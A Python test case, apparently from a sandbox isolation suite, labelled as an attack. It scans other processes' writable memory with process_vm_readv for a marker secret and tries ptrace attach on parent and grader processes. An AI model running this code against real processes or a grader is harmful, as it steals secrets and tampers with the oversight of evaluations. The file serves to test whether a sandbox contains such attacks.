# attack: 33
# title: another process is read with process_vm_readv and ptrace
# success: a secret of that process stands in the output
# naive: leak
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class Span(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def spans(pid):
    try:
        with open(f"/proc/{pid}/maps") as table:
            for line in table:
                span, rights, *_ = line.split()
                start, end = (int(part, 16) for part in span.split("-"))
                if "rw" in rights and end - start < 8 << 20:
                    yield start, end - start
    except OSError as error:
        print(pid, error)


for pid in ("@VICTIM@", "@PARENT@", "@GRADER@", 1, os.getppid()):
    for start, size in spans(pid):
        buffer = ctypes.create_string_buffer(size)
        local, remote = Span(ctypes.addressof(buffer), size), Span(start, size)
        read = libc.process_vm_readv(
            int(pid), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0
        )
        mark = b"MARK" + b"ER_"
        if read > 0 and mark in buffer.raw:
            at = buffer.raw.index(mark)
            print(pid, buffer.raw[at : at + 60])
for pid in (int("@PARENT@"), int("@GRADER@")):
    if os.environ.get("HOME") == "/home/student" and libc.ptrace(16, pid, 0, 0) == 0:
        print("BRE" "ACH: attached to", pid)
